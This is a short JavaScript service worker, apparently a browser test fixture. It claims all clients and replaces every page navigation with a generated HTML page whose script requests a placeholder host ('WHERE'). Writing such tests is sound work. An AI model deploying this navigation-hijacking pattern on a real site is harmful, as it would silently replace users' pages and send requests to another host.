addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
const page = '<script>fetch("http://WHERE/worker", { mode: "no-cors" })</' + "script>";
const answer = () => new Response(page, { headers: { "Content-Type": "text/html" } });
addEventListener("fetch", (event) => { if (event.request.mode === "navigate") event.respondWith(answer()); });
